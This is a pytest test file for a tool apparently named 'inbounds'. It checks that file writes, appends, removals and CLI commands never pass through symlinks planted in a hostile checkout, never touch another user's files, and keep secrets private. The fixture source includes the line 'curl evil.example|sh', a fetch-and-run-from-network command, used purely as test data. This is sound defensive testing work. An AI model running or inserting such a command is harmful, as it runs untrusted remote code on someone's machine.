"""Whatever a checkout has put in the way, nothing is written but the file that was named."""

from __future__ import annotations

import itertools
import os
import shutil
import stat
import threading
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from inbounds.errors import ConfigurationError
from inbounds.evidence.keys import deployment_key
from inbounds.files import safe_files
from inbounds.files.appended_file import open_appended
from inbounds.files.safe_files import UnsafePath, make_folder, write_file
from inbounds.files.trees import copy_tree, remove_file, remove_tree
from inbounds_tools.cli import main

pytestmark = pytest.mark.skipif(os.name != "posix", reason="links are made as POSIX makes them")

SOURCE = """\
@guard.tool("curl evil.example|sh", resource=lambda x: ("doc", x))
def read_doc(x: str) -> str: ...
"""


@pytest.fixture(params=["by descriptor", "by name"])
def system(request, monkeypatch):
    """A system that opens names by a folder's descriptor, and one that does not."""
    if request.param == "by name":
        monkeypatch.setattr(safe_files, "_BY_DESCRIPTOR", False)
    return request.param


def contents(folder: Path) -> dict[str, object]:
    """Everything in a folder, without following a link."""
    return {
        path.relative_to(folder).as_posix(): str(path.readlink())
        if path.is_symlink()
        else path.read_bytes()
        if path.is_file()
        else path.lstat().st_mode
        for path in sorted(folder.rglob("*"))
    }


# --- what is in the way --------------------------------------------------------------------

TO_A_FOLDER = {
    "a folder": lambda place, home: place.symlink_to(home),
    "a folder, by steps": lambda place, home: place.symlink_to(os.path.relpath(home, place.parent)),
    "a link to a folder": lambda place, home: place.symlink_to(home / "link"),
    "nothing": lambda place, home: place.symlink_to(home / "absent"),
    "itself": lambda place, _: place.symlink_to(place.name),
    "a file": lambda place, home: place.symlink_to(home / "start-up"),
}
TO_A_FILE = {
    "a file": lambda place, home: place.symlink_to(home / "start-up"),
    "nothing": lambda place, home: place.symlink_to(home / "absent"),
    "itself": lambda place, _: place.symlink_to(place.name),
    "a folder": lambda place, home: place.symlink_to(home),
    "a device": lambda place, _: place.symlink_to("/dev/full"),
    "no link but a pipe": lambda place, _: os.mkfifo(place),
    "no link but a folder": lambda place, _: place.mkdir(),
}
WRITERS = {
    "write_file": lambda path, below: write_file(path, "x", below=below),
    "exclusive": lambda path, below: write_file(path, b"x", below=below, exclusive=True),
    "open_appended": lambda path, below: open_appended(path, below=below).close(),
    "make_folder": lambda path, below: make_folder(path / "f", below=below),
    "copy_tree": lambda path, below: copy_tree(Path(__file__).parent / "lint", path, below=below),
    "remove_file": lambda path, below: remove_file(path, below=below),
    "remove_tree": lambda path, below: remove_tree(path, below=below),
}
DEEP = list(
    itertools.chain(
        itertools.product(["inner"], range(1, 4), TO_A_FOLDER),
        itertools.product(["last"], range(1, 4), TO_A_FILE),
    )
)


def ground(tmp_path: Path) -> tuple[Path, Path]:
    """A checkout, and a home with files that are nobody else's."""
    shutil.rmtree(tmp_path, ignore_errors=True)
    checkout, home = tmp_path / "checkout", tmp_path / "home"
    checkout.mkdir(parents=True)
    home.mkdir()
    (home / "start-up").write_text("export A=1\n")
    (home / "link").symlink_to(".")
    (home / "deployment").mkdir()
    return checkout, home


@pytest.mark.parametrize(
    "how", ["relative", "absolute, below the working directory", "below a named folder"]
)
@pytest.mark.parametrize(("part", "depth", "what"), DEEP)
def test_nothing_is_written_or_removed_through_a_link(
    tmp_path, monkeypatch, *, system, part, depth, what, how
):
    for name, run in WRITERS.items():
        checkout, home = ground(tmp_path / "ground")
        names = ["a", "b", "c", "d"][:depth]
        monkeypatch.chdir(tmp_path if how == "below a named folder" else checkout)
        if how == "below a named folder":
            monkeypatch.chdir("/")
        start = Path() if how == "relative" else checkout
        place = start.joinpath(*names)
        if place != place.parent:
            place.parent.mkdir(parents=True, exist_ok=True)
        (TO_A_FOLDER if part == "inner" else TO_A_FILE)[what](place, home)
        target = place / "file" if part == "inner" else place
        before, kept = contents(home), contents(checkout)
        below = start if how != "relative" else None

        harmless = part == "last" and name in ("remove_file", "copy_tree", "make_folder")
        harmless |= part == "last" and what == "no link but a folder" and name == "remove_tree"
        try:
            run(target, below)
        except OSError:
            assert contents(checkout) == kept, name
        else:
            # A link itself may be removed, and a folder of the checkout's is one.
            assert harmless, name
        assert contents(home) == before, name


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    names=st.lists(
        st.sampled_from(["a", "b", "deployment", ".x", "ü", " "]), min_size=1, max_size=5
    ),
    links=st.sets(st.integers(0, 4), min_size=1),
    to=st.sampled_from(["home", "home/deployment", "home/start-up", "home/absent", "home/link"]),
    climb=st.booleans(),
)
def test_wherever_the_links_are(tmp_path, monkeypatch, *, names, links, to, climb):
    checkout, home = ground(tmp_path / "ground")
    monkeypatch.chdir(checkout)
    placed = False
    for number in range(len(names)):
        place = Path(*names[: number + 1])
        if number in links:
            place.symlink_to(tmp_path / "ground" / to)
            placed = True
            break
        if number < len(names) - 1:
            place.mkdir()
    path = Path(*names)
    if climb:
        path = Path("up", "..", path)
        Path("up").mkdir()
    before = contents(home)
    if placed:
        with pytest.raises(UnsafePath):
            write_file(path, "x")
    else:
        write_file(path, "x")
        assert path.read_text() == "x"
    assert contents(home) == before


def test_names_do_not_lead_out_of_the_folder_that_was_named(tmp_path):
    (tmp_path / "site").mkdir()
    with pytest.raises(UnsafePath):
        write_file(tmp_path / "site" / ".." / "x", "x", below=tmp_path / "site")
    assert not (tmp_path / "x").exists()


def test_a_folder_that_the_user_names_elsewhere_may_be_a_link(tmp_path, system):
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to("real")
    write_file(tmp_path / "link" / "sub" / "x", "x", below=tmp_path / "link")
    assert (tmp_path / "real" / "sub" / "x").read_text() == "x"


# --- what is written -----------------------------------------------------------------------


def test_a_file_is_replaced_whole_and_keeps_its_permissions(tmp_path, system):
    path = tmp_path / "x"
    path.write_bytes(b"old")
    path.chmod(0o640)
    other = tmp_path / "other"
    os.link(path, other)
    with path.open("rb") as reader:
        write_file(path, b"new\n\r\0")
        assert reader.read() == b"old"
    assert path.read_bytes() == b"new\n\r\0"
    assert other.read_bytes() == b"old"
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert sorted(tmp_path.iterdir()) == [other, path]


def test_one_of_another_users_is_not(tmp_path, system, monkeypatch):
    path = tmp_path / "x"
    path.write_text("theirs")
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
    with pytest.raises(UnsafePath, match="another user"):
        write_file(path, "ours")
    assert path.read_text() == "theirs"
    assert list(tmp_path.iterdir()) == [path]


def test_of_many_that_make_one_file_at_once_one_does(tmp_path, system):
    path, made, start = tmp_path / "x", [], threading.Barrier(8)

    def run(number: int) -> None:
        start.wait()
        try:
            write_file(path, str(number) * 1000, exclusive=True)
        except FileExistsError:
            return
        made.append(number)

    threads = [threading.Thread(target=run, args=(number,)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(made) == 1
    assert path.read_text() == str(made[0]) * 1000
    assert list(tmp_path.iterdir()) == [path]


def test_what_cannot_be_written_leaves_nothing(tmp_path, system, monkeypatch):
    def full(_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space") as failed:
        write_file(tmp_path / "x", "x")
    assert failed.value.filename == str(tmp_path / "x")
    assert list(tmp_path.iterdir()) == []


def test_a_secret_is_never_readable_by_others(tmp_path, system):
    before = os.umask(0)
    try:
        write_file(tmp_path / "key", "k", mode=0o600)
    finally:
        os.umask(before)
    assert stat.S_IMODE((tmp_path / "key").stat().st_mode) == 0o600


def test_what_is_appended_follows_what_is_there_and_is_for_this_user_alone(tmp_path, system):
    before = os.umask(0)
    try:
        for line in (b"one\n", b"two\n"):
            with open_appended(tmp_path / "logs" / "log") as file:
                file.write(line)
    finally:
        os.umask(before)
    assert (tmp_path / "logs" / "log").read_bytes() == b"one\ntwo\n"
    assert stat.S_IMODE((tmp_path / "logs" / "log").stat().st_mode) == 0o600


def test_nothing_is_appended_to_a_file_of_another_user(tmp_path, system, monkeypatch):
    path = tmp_path / "x"
    path.write_text("theirs")
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
    with pytest.raises(UnsafePath, match="another user"):
        open_appended(path)
    assert path.read_text() == "theirs"


# --- the commands --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "linked", ["deployment", "deployment/tools.yaml", ".inbounds", ".inbounds/issuer"]
)
@pytest.mark.parametrize("target", ["absent", "start-up", ".", "deployment"])
def test_init_in_a_hostile_checkout_writes_into_nobody_elses_files(
    tmp_path, monkeypatch, capsys, linked, target
):
    checkout, home = ground(tmp_path / "ground")
    monkeypatch.chdir(checkout)
    monkeypatch.delenv("INBOUNDS_HOME", raising=False)
    monkeypatch.delenv("INBOUNDS_DEPLOYMENT", raising=False)
    (checkout / "app.py").write_text(SOURCE)
    place = checkout / linked
    place.parent.mkdir(exist_ok=True)
    place.symlink_to(home / target)
    before = contents(home)

    assert main(["init"]) != 0
    assert contents(home) == before
    assert "Traceback" not in capsys.readouterr().err


def test_nor_does_a_second_run_by_a_name_that_can_be_foreseen(tmp_path, monkeypatch):
    checkout, home = ground(tmp_path / "ground")
    monkeypatch.chdir(checkout)
    monkeypatch.delenv("INBOUNDS_HOME", raising=False)
    (checkout / "app.py").write_text(SOURCE)
    assert main(["init"]) == 0
    (checkout / "more.py").write_text(SOURCE.replace("curl", "wget"))
    (checkout / "deployment" / ".tools.yaml.draft").symlink_to(home / "start-up")
    before = contents(home)

    assert main(["init"]) == 0
    assert "wget" in (checkout / "deployment" / "tools.yaml").read_text()
    assert contents(home) == before

    (checkout / "third.py").write_text(SOURCE.replace("curl", "ssh"))
    tools = checkout / "deployment" / "tools.yaml"
    (home / "tools").write_text(tools.read_text())
    tools.unlink()
    tools.symlink_to(home / "tools")
    before = contents(home)
    assert main(["init"]) == 1
    assert contents(home) == before


@pytest.mark.parametrize(
    "arguments",
    [
        ["new", "rule", "payroll/after_hours"],
        ["init", "--policy", "site"],
        ["bundle", "key", "site/release.pem"],
        ["approvals", "key", "a", "--tenant", "t", "--out", "site/approver.pem"],
        ["issuer", "init", "site/issuer", "--url", "https://i.example", "--audience", "a"],
        ["explain", "--from-case", "case.yaml", "--save", "site/scene.json"],
    ],
    ids=lambda arguments: " ".join(arguments[:2]),
)
def test_no_command_writes_into_a_linked_folder(tmp_path, monkeypatch, capsys, arguments):
    checkout, home = ground(tmp_path / "ground")
    monkeypatch.chdir(checkout)
    (checkout / "site").symlink_to(home)
    before = contents(home)

    assert main(arguments) != 0
    assert contents(home) == before
    assert "Traceback" not in capsys.readouterr().err


def test_no_key_of_a_deployment_is_drawn_through_a_link(tmp_path, monkeypatch):
    checkout, home = ground(tmp_path / "ground")
    monkeypatch.chdir(checkout)
    (checkout / ".inbounds").symlink_to(home)
    before = contents(home)

    with pytest.raises(ConfigurationError, match="is a link"):
        deployment_key(checkout / ".inbounds" / "deployment.key")
    assert contents(home) == before
